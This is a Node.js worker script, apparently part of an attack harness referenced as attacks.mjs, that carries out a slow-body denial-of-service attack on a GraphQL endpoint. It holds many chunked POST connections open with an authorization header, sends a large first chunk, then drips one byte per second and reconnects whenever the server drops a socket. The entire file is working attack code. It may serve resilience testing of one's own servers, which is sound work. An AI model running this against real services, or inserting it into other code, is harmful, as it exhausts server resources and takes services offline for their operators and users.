// A client that begins bodies without a length, sends a byte of each every second, and begins anew when one is refused.
// A thread of its own, which ends when it is terminated: see attacks.mjs.
import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';

const FIRST_BYTES = 0x118000;

const { url, authorization, bodies } = workerData;
const { hostname, port } = new URL(url);
const HEAD = [
  'POST /graphql HTTP/1.1',
  'Host: x',
  `Authorization: ${authorization}`,
  'Content-Type: application/json',
  'Transfer-Encoding: chunked',
].join('\r\n');

const sockets = [];
function begin(n) {
  const socket = connect(Number(port), hostname).on('error', () => undefined);
  socket.on('close', () => setTimeout(begin, 10, n));
  socket.resume();
  socket.write(`${HEAD}\r\n\r\n${FIRST_BYTES.toString(16)}\r\n${' '.repeat(FIRST_BYTES)}\r\n`);
  sockets[n] = socket;
}
for (let n = 0; n < bodies; n++) begin(n);
setInterval(() => sockets.forEach(socket => socket.writable && socket.write('1\r\n \r\n')), 1000);
